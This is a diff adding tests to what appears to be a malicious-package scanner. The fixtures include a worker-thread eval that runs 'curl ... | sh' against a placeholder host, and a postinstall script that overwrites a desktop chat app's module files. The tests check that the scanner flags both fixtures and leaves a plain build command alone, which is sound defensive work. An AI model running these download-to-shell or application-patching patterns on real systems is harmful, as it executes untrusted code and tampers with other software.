@@ -1912,3 +1912,37 @@ ${sink}`,
     expect(threatsOf(wasm('module.exports = { table: new Uint32Array(kernel.buffer) };'))).toEqual([]);
   });
 });
+
+describe('what a worker started with eval: true is given', () => {
+  const worker = (cmd: string) =>
+    load({
+      'index.js': `const { Worker } = require('worker_threads');
+const job = "const { workerData } = require('worker_threads'); require('child_process').execSync(workerData.cmd);";
+new Worker(job, { eval: true, workerData: { cmd: ${JSON.stringify(cmd)} } });`,
+    });
+  it('workerData reaches the code the worker runs: a download piped into a shell', () => {
+    expect(worker('curl -s http://w.worker-data.example/a | sh').evidence.map((f) => f.rule)).toContain(
+      'js.exec-download-pipe-shell',
+    );
+  });
+  it("a desktop app's per-user module folder on Linux and macOS is another application's code", () => {
+    for (const dir of [
+      "path.join(os.homedir(), '.config', 'chatapp', '0.0.50', 'modules')",
+      "path.join(os.homedir(), 'Library', 'Application Support', 'chatapp', '0.0.50', 'modules')",
+    ])
+      expect(
+        analyzeSource({
+          'package.json': JSON.stringify({
+            name: 'rpc-status',
+            version: '1.0.0',
+            scripts: { postinstall: 'node setup.js' },
+          }),
+          'setup.js': `const fs = require('fs'), os = require('os'), path = require('path');
+fs.writeFileSync(path.join(${dir}, 'core', 'index.js'), 'module.exports = require("./core.asar");');`,
+        }).evidence.map((f) => f.rule),
+      ).toContain('js.patch-application');
+  });
+  it('quiet: the same worker running the project’s own build command', () => {
+    expect(threatsOf(worker('npm run build'))).toEqual([]);
+  });
+});
